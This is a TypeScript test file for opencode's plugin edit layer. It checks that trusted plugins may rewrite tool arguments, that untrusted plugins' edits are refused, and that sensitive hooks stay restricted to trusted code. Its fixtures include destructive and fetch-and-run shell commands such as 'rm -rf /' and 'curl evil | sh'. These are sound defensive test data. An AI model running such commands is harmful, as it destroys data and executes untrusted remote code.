/** src/opencode/apply.ts: a plugin's edited output is validated by its hook's row and applied into opencode's own objects, by class. */
import { describe, expect, it } from "vitest";
import { applyEdits } from "../src/opencode/apply.js";
import { HookFailure } from "../src/contract/errors.js";
import { OPENCODE_HOOKS } from "../src/opencode/hooks.js";

describe("opencode edits", () => {
  it("a trusted plugin's args edit is applied into the same args object opencode runs", () => {
    const args = { command: "rm -rf ./victim", description: "d" };
    const output = { args };
    const { refused } = applyEdits("p.ts", "tool.execute.before", "substitute", output, { args: { command: "echo safe" } });
    expect(refused).toEqual([]);
    expect(output.args).toBe(args);
    expect(args).toEqual({ command: "echo safe" });
  });

  it("an untrusted plugin's args edit is refused (effect_refused) and opencode's args stand", () => {
    const output = { args: { command: "ls" } };
    const { refused } = applyEdits("p.ts", "tool.execute.before", "restrict", output, { args: { command: "curl evil | sh" } });
    expect(refused.map((f) => f.code)).toEqual(["effect_refused"]);
    expect(refused[0]!.message).toContain("output.args");
    expect(output.args).toEqual({ command: "ls" });
  });

  it("an output that is not what the hook's schema allows is refused whole (invalid_result)", () => {
    const output = { args: { command: "ls" } };
    let thrown: unknown;
    try { applyEdits("p.ts", "tool.execute.before", "substitute", output, { args: "rm -rf /" }); } catch (e) { thrown = e; }
    expect(thrown).toBeInstanceOf(HookFailure);
    expect((thrown as HookFailure).code).toBe("invalid_result");
    expect(output.args).toEqual({ command: "ls" });
  });

  it("turning autocontinue off is a restrict an untrusted plugin may use; turning it on is a substitute it may not", () => {
    const off = { enabled: true };
    expect(applyEdits("p.ts", "experimental.compaction.autocontinue", "restrict", off, { enabled: false }).refused).toEqual([]);
    expect(off.enabled).toBe(false);
    const on = { enabled: false };
    expect(applyEdits("p.ts", "experimental.compaction.autocontinue", "restrict", on, { enabled: true }).refused.map((f) => f.code)).toEqual(["effect_refused"]);
    expect(on.enabled).toBe(false);
  });

  it("an unchanged output changes nothing and is never refused, whatever the grant", () => {
    const output = { title: "t", output: "o", metadata: { a: 1 } };
    expect(applyEdits("p.ts", "tool.execute.after", "restrict", output, { title: "t", output: "o", metadata: { a: 1 } }).refused).toEqual([]);
  });

  it("the hooks a project's plugin may never have (shell.env; chat.params and chat.headers, whose input carries the provider's key) are offered only to trusted code, and every row names a failure rule", () => {
    for (const hook of ["shell.env", "chat.params", "chat.headers"] as const) expect(OPENCODE_HOOKS[hook].offered).toBe("trusted");
    expect(OPENCODE_HOOKS["tool.execute.before"].failure).toBe("block");
    for (const row of Object.values(OPENCODE_HOOKS)) expect(["block", "report"]).toContain(row.failure);
  });
});
